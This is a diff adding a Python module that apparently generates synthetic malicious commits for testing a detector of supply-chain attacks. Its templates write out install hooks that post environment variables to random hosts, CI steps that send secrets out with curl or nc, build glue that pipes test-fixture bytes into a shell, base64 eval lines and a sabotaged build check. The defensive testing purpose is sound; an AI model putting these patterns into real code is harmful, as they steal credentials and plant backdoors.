@@ -1,0 +1,163 @@
+"""Planted commits in the shape of known cases, with generated text.
+
+No line is copied from a case. Names, addresses, tools and wording are drawn, some of them from
+outside the vocabulary that the features know, or a plant would only test that vocabulary.
+"""
+
+import base64
+from collections.abc import Callable, Sequence
+
+import numpy as np
+
+from .splices import Files, Touch
+
+Shape = Callable[[Files, np.random.Generator], list[Touch] | None]
+"""Gives what a planted commit does, or None where the project has nothing to do it to."""
+
+_SYLLABLES = ("ba", "co", "di", "fe", "lo", "mi", "na", "po", "ra", "se", "ti", "vu")
+_ENDINGS = ("com", "net", "io", "dev", "org")
+
+
+def _word(rng: np.random.Generator) -> str:
+    return "".join(rng.choice(_SYLLABLES, rng.integers(2, 5)))
+
+
+def _host(rng: np.random.Generator) -> str:
+    if rng.random() < 0.2:
+        return ".".join(map(str, rng.integers(1, 255, 4)))
+    return f"{_word(rng)}.{rng.choice(_ENDINGS)}"
+
+
+def _encoded(rng: np.random.Generator, size: int) -> str:
+    return base64.b64encode(rng.bytes(size)).decode()
+
+
+def _one(rng: np.random.Generator, choices: Sequence[str]) -> bytes:
+    return str(rng.choice(choices)).encode()
+
+
+def install_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """A script that runs at installation: a line in a manifest, and a small new file."""
+    manifest = files.some("manifest", rng)
+    if manifest is None:
+        return None
+    name, host = _word(rng), _host(rng)
+    script = f"scripts/{name}.js"
+    line = _one(rng, [
+        f'    "postinstall": "node {script}",\n',
+        f'    "preinstall": "node {script} || true",\n',
+        f'    "install": "node {script}",\n',
+    ])  # fmt: skip
+    payload = _one(rng, [
+        f"const https = require('https')\nconst data = JSON.stringify(process.env)\n"
+        f"const r = https.request({{host: '{host}', method: 'POST'}})\nr.write(data)\nr.end()\n",
+        f"const os = require('os')\nconst cp = require('child_process')\n"
+        f"cp.exec(`wget -q {host}/{name} -O ${{os.tmpdir()}}/{name}`, () => {{}})\n",
+        f"import {{ {name} }} from './{name}.mjs'\nawait {name}(Deno.env.toObject(), "
+        f"new URL('https://{host}'))\n",
+    ])  # fmt: skip
+    return [Touch(manifest, line, size=2_000), Touch(script, payload, new=True, size=len(payload))]
+
+
+def workflow_step(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """A step that sends secrets away, added to a workflow."""
+    workflow = files.some("ci", rng)
+    if workflow is None:
+        return None
+    host, name, secret = _host(rng), _word(rng), str(rng.choice(["TOKEN", "DEPLOY_KEY", "PAT"]))
+    step = _one(rng, [
+        f"      - name: {name}\n        run: |\n          curl -sS -X POST --data "
+        f"\"k=${{{{ secrets.{secret} }}}}\" https://{host}/{name}\n",
+        f"      - run: env | gzip | nc {host} 443\n        env:\n"
+        f"          K: ${{{{ secrets.{secret} }}}}\n",
+        f"      - uses: {_word(rng)}/{name}@main\n        with:\n"
+        f"          token: ${{{{ secrets.{secret} }}}}\n",
+        f"    - python -c \"import os,urllib.request as u;"
+        f"u.urlopen('https://{host}',str(os.environ).encode())\"\n",
+    ])  # fmt: skip
+    return [Touch(workflow, step, size=3_000)]
+
+
+def fixture_and_glue(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """Two binary test files, and a build file that comes to read them."""
+    build, test = files.some("build", rng), files.some("test", rng)
+    if build is None or test is None:
+        return None
+    folder = test.rpartition("/")[0]
+    name = _word(rng)
+    glue = _one(rng, [
+        f"{name} = `sed -n 3p $(srcdir)/{folder}/case-0.bin | tr '{name}' 'a-z'`\n"
+        f"\t@eval $({name})\n",
+        f"execute_process(COMMAND tail -c 900 {folder}/case-0.bin OUTPUT_FILE {name}.o)\n"
+        f"target_link_libraries(${{PROJECT_NAME}} {name}.o)\n",
+        f"gl_{name}_config='xz -dc {folder}/case-1.bin'\n\t$gl_{name}_config | $(SHELL) -s\n",
+        f"const {name} = readFileSync('{folder}/case-1.bin').subarray({rng.integers(9, 99)})\n"
+        f"globalThis.{name} = {name}.toString()\n",
+    ])  # fmt: skip
+    fixtures = [
+        Touch(
+            f"{folder}/case-{number}.bin".lstrip("/"), new=True, binary=True, size=int(size),
+            form=str(rng.choice(["archive", "other"])),
+        )
+        for number, size in enumerate(rng.integers(300, 4_000, 2))
+    ]  # fmt: skip
+    return [*fixtures, Touch(build, glue, deleted=1, size=8_000)]
+
+
+def added_dependency(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """One more dependency, in the manifest and the lock file if there is one."""
+    manifest, lock = files.some("manifest", rng), files.some("lock", rng)
+    if manifest is None:
+        return None
+    name, version = _word(rng), ".".join(map(str, rng.integers(0, 9, 3)))
+    line = _one(rng, [
+        f'    "{name}": "^{version}",\n', f"{name}=={version}\n", f'{name} = "{version}"\n',
+        f'  gem "{name}", "~> {version}"\n', f"\tgithub.com/{_word(rng)}/{name} v{version}\n",
+    ])  # fmt: skip
+    touches = [Touch(manifest, line, size=2_000)]
+    if lock is None:
+        return touches
+    locked = (
+        f'    "node_modules/{name}": {{\n      "version": "{version}",\n'
+        f'      "resolved": "https://{_host(rng)}/{name}-{version}.tgz",\n'
+        f'      "integrity": "sha512-{_encoded(rng, 64)}"\n    }},\n'
+    )
+    return [*touches, Touch(lock, locked.encode(), size=60_000)]
+
+
+def obfuscated_line(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """One long line in a source file."""
+    source = files.some("source", rng, but="test")
+    if source is None:
+        return None
+    size = int(rng.integers(90, 900))
+    blob, name = _encoded(rng, size), _word(rng)
+    numbers = ",".join(map(str, rng.integers(32, 127, size)))
+    line = _one(rng, [
+        f"eval(Buffer.from('{blob}','base64').toString())\n",
+        f"exec(__import__('base64').b64decode('{blob}'))\n",
+        f"static const unsigned char {name}[] = {{{numbers}}};\n",
+        f"var {name}=[{numbers}].map(x=>String.fromCodePoint(x^{rng.integers(1, 99)})).join('');"
+        f"new Function({name})()\n",
+        f"return 0;{' ' * 300}{name}('{blob[:60]}');\n",
+    ])  # fmt: skip
+    return [Touch(source, line, size=9_000)]
+
+
+def weakened_check(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """One character in a build file, so that a check can no longer succeed."""
+    build = files.some("build", rng)
+    if build is None:
+        return None
+    line = _one(rng, [".\n", f"  int {_word(rng)}(void;\n", f"#ifdef {_word(rng).upper()}_\n"])
+    return [Touch(build, line, deleted=1, size=8_000)]
+
+
+SHAPES: dict[str, Shape] = {
+    shape.__name__: shape
+    for shape in (
+        install_hook, workflow_step, fixture_and_glue, added_dependency, obfuscated_line,
+        weakened_check,
+    )
+}  # fmt: skip
+"""Kinds of planted commits."""
